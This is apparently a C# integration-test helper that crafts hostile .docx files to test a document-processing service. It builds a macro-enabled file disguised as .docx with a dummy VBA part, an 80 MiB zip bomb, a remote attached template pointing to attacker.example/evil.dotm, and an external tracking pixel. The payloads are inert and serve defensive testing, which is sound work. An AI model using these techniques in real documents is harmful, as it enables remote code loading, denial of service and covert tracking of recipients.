using System.IO.Compression;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Wordprocessing;

namespace FactFunctions.IntegrationTests.Infrastructure;

/// <summary>Edits to a .docx for tests: through the SDK (restyle, retag) or at zip level (what the SDK would refuse to write).</summary>
public static class DocxEdits
{
    public static byte[] Word(byte[] docx, Action<WordprocessingDocument> edit)
    {
        using var stream = new MemoryStream();
        stream.Write(docx);
        stream.Position = 0;
        using (var document = WordprocessingDocument.Open(stream, true))
        {
            edit(document);
        }

        return stream.ToArray();
    }

    public static byte[] Zip(byte[] docx, Action<ZipArchive> edit)
    {
        using var stream = new MemoryStream();
        stream.Write(docx);
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Update, leaveOpen: true))
        {
            edit(zip);
        }

        return stream.ToArray();
    }

    public static SdtElement Control(WordprocessingDocument document, string tag) =>
        document.MainDocumentPart!.Document!.Descendants<SdtElement>().First(s => s.SdtProperties?.GetFirstChild<Tag>()?.Val?.Value == tag);

    /// <summary>Declares the main part macro-enabled and adds a VBA part: a .docm in .docx clothing.</summary>
    public static void MakeMacroEnabled(ZipArchive zip)
    {
        string types;
        using (var reader = new StreamReader(zip.GetEntry("[Content_Types].xml")!.Open()))
        {
            types = reader.ReadToEnd();
        }

        zip.GetEntry("[Content_Types].xml")!.Delete();
        using (var writer = new StreamWriter(zip.CreateEntry("[Content_Types].xml").Open()))
        {
            writer.Write(types.Replace("wordprocessingml.document.main+xml", "ms-word.document.macroEnabled.main+xml", StringComparison.Ordinal));
        }

        using var vba = zip.CreateEntry("word/vbaProject.bin").Open();
        vba.Write("not really VBA"u8);
    }

    /// <summary>Adds an entry of 80 MiB of zeros, a few kilobytes compressed.</summary>
    public static void AddBomb(ZipArchive zip)
    {
        using var stream = zip.CreateEntry("word/media/bomb.bin", CompressionLevel.SmallestSize).Open();
        var zeros = new byte[1024 * 1024];
        for (int i = 0; i < 80; i++)
        {
            stream.Write(zeros);
        }
    }

    /// <summary>
    /// Adds a part of <paramref name="bytes"/> zeros (a few kilobytes compressed) and a small part named by
    /// <paramref name="unique"/>, so each such template is a different version: a large but honest template.
    /// </summary>
    public static void AddFiller(ZipArchive zip, int bytes, string unique)
    {
        using (var stream = zip.CreateEntry("word/media/filler.bin", CompressionLevel.SmallestSize).Open())
        {
            stream.Write(new byte[bytes]);
        }

        using (var stream = zip.CreateEntry($"word/media/{unique}.bin").Open())
        {
            stream.Write(System.Text.Encoding.UTF8.GetBytes(unique));
        }

        string types;
        using (var reader = new StreamReader(zip.GetEntry("[Content_Types].xml")!.Open()))
        {
            types = reader.ReadToEnd();
        }

        zip.GetEntry("[Content_Types].xml")!.Delete();
        using var writer = new StreamWriter(zip.CreateEntry("[Content_Types].xml").Open());
        writer.Write(types.Contains("Extension=\"bin\"", StringComparison.Ordinal)
            ? types
            : types.Replace("</Types>", "<Default Extension=\"bin\" ContentType=\"application/octet-stream\"/></Types>", StringComparison.Ordinal));
    }

    /// <summary>Adds a relationship to a part's relationships with raw attribute text, in spellings the SDK would not write.</summary>
    public static void AddRawRelationship(ZipArchive zip, string relsPart, string attributes) =>
        EditEntry(zip, relsPart, rels => rels.Replace("</Relationships>", $"<Relationship {attributes}/></Relationships>", StringComparison.Ordinal));

    /// <summary>Puts raw XML (which declares its own namespaces) at the start of the document body.</summary>
    public static void InsertInBody(ZipArchive zip, string xml) =>
        EditEntry(zip, "word/document.xml", document => document.Replace("<w:body>", "<w:body>" + xml, StringComparison.Ordinal));

    public static void AddEntry(ZipArchive zip, string name, string text)
    {
        using var writer = new StreamWriter(zip.CreateEntry(name).Open());
        writer.Write(text);
    }

    private static void EditEntry(ZipArchive zip, string name, Func<string, string> edit)
    {
        string text;
        using (var reader = new StreamReader(zip.GetEntry(name)!.Open()))
        {
            text = reader.ReadToEnd();
        }

        zip.GetEntry(name)!.Delete();
        AddEntry(zip, name, edit(text));
    }

    public static void AttachRemoteTemplate(WordprocessingDocument document)
    {
        var settings = document.MainDocumentPart!.DocumentSettingsPart!;
        settings.AddExternalRelationship("http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate",
            new Uri("https://attacker.example/evil.dotm"), "rIdAttached");
        settings.Settings!.PrependChild(new AttachedTemplate { Id = "rIdAttached" });
    }

    public static void AddExternalImage(WordprocessingDocument document) =>
        document.MainDocumentPart!.AddExternalRelationship("http://schemas.openxmlformats.org/officeDocument/2006/relationships/image",
            new Uri("https://tracker.example/pixel.png"), "rIdPixel");
}
